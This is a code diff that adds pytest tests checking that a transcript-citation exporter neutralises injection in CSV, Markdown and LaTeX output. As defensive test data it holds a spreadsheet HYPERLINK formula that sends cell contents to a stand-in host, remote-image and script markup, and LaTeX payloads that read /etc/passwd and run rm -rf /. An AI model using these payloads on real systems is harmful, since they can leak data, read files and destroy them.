@@ -213,3 +213,100 @@ def test_safe_name_check_rejects_others(name: str) -> None:
 def test_unique_citations_keeps_order() -> None:
     a, b = cite(start=1), cite(start=2)
     assert unique_citations([b, a, b]) == [b, a]
+
+
+# ---- safe to open -------------------------------------------------------------------------------
+
+#: Markup a transcript could carry that would fetch or link a remote resource if rendered.
+REMOTE = (
+    "See ![x](http://127.0.0.9/leak.png) and [docs](http://127.0.0.9/doc) "
+    "<img src=http://127.0.0.9/x> <http://127.0.0.9/auto> http://127.0.0.9/bare www.example.org "
+    "<script>alert(1)</script> &amp; `code` *bold* _it_ # not a heading"
+)
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_formula_cells(lead: str) -> None:
+    payload = f'{lead}HYPERLINK("http://127.0.0.9/?"&A1,"x")'
+    c = Citation(
+        interview_id="32", label=payload, speaker=payload, role="participant", turn_index=1,
+        quote=payload, source=SRC, start=0, end=len(payload), codes=(payload, "Data"),
+    )  # fmt: skip
+    row = list(csv.DictReader(io.StringIO(to_csv([c]), newline="")))[0]
+    for column in ("label", "speaker", "quote", "codes"):
+        assert row[column] == "'" + (payload if column != "codes" else f"{payload}; Data")
+    # every cell of every row, header included, starts with something inert
+    for cells in csv.reader(io.StringIO(to_csv([c]), newline="")):
+        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in cells), cells
+
+
+def test_csv_leaves_ordinary_cells_alone() -> None:
+    row = list(csv.DictReader(io.StringIO(to_csv([cite(TRICKY)]), newline="")))[0]
+    assert row["quote"] == TRICKY and row["codes"].startswith("Data-missing-values")
+
+
+def _rendered(md: str) -> str:
+    markdown_it = pytest.importorskip("markdown_it")
+    return str(markdown_it.MarkdownIt("commonmark").render(md))
+
+
+def test_markdown_export_is_inert() -> None:
+    c = Citation(
+        interview_id="32", label="<b>PO</b>", speaker="[me](http://127.0.0.9/s)",
+        role="participant", turn_index=3, quote=REMOTE, source=SRC, start=0, end=len(REMOTE),
+        codes=("![c](http://127.0.0.9/c.png)",),
+    )  # fmt: skip
+    md = to_markdown([c], question="<img src=http://127.0.0.9/q> [q](http://127.0.0.9/q)")
+    html = _rendered(md)
+    # only the export's own structure is markup; everything from the transcript is text
+    assert set(re.findall(r"<([a-zA-Z][^\s>/]*)", html)) == {"p", "blockquote", "strong"}, html
+    assert all(
+        tag in ("<p>", "<blockquote>", "<strong>") for tag in re.findall(r"<[a-z][^>]*>", html)
+    )
+    # no bare URL a GFM renderer would turn into a link
+    assert not re.search(r"(?<!\\)://|www\.", md), md
+    # what a reader sees is the transcript's text, character for character
+    text = re.sub(r"<[^>]+>", "", html)
+    import html as htmllib
+
+    assert REMOTE in htmllib.unescape(text).replace("\n", " ")
+
+
+def test_markdown_escape_round_trips_plain_quotes() -> None:
+    md = to_markdown([cite(TRICKY)])
+    text = re.sub(r"<[^>]+>", "", _rendered(md))
+    import html as htmllib
+
+    assert TRICKY in htmllib.unescape(text)
+
+
+def test_latex_export_escapes_injection() -> None:
+    evil = r"\input{/etc/passwd} \write18{rm -rf /} ^^5cinput $x$ % comment" + REMOTE
+    tex = to_latex([cite(evil, codes=(r"\def\x{1}",))])
+    body = tex.split(r"\begin{quote}", 1)[1].split(r"\end{quote}", 1)[0]
+    assert r"\input" not in body and r"\write18" not in body and r"\def" not in body
+    assert "^^" not in body
+    assert not re.search(r"[#$%&_~^<>]", _strip_commands(body))
+
+
+@pytest.mark.parametrize(
+    ("name", "fmt"),
+    [("out.md", "markdown"), ("a/b/Quotes.MD", "markdown"), ("x.csv", "csv"), ("p.tex", "latex")],
+)
+def test_format_for_path(name: str, fmt: str) -> None:
+    from mlqi_rag.export import format_for_path
+
+    assert format_for_path(name) == fmt
+    assert format_for_path(Path(name)) == fmt
+
+
+@pytest.mark.parametrize("name", ["quotes.docx", "quotes", "quotes.md.bak", "bad\nname.txt"])
+def test_format_for_path_rejects_unknown(name: str) -> None:
+    from mlqi_rag.errors import MlqiError
+    from mlqi_rag.export import format_for_path
+
+    with pytest.raises(MlqiError) as err:
+        format_for_path(name)
+    message = str(err.value)
+    assert "\n" not in message and ".md, .csv or .tex" in message
+    assert name.replace("\n", "\\n") in message
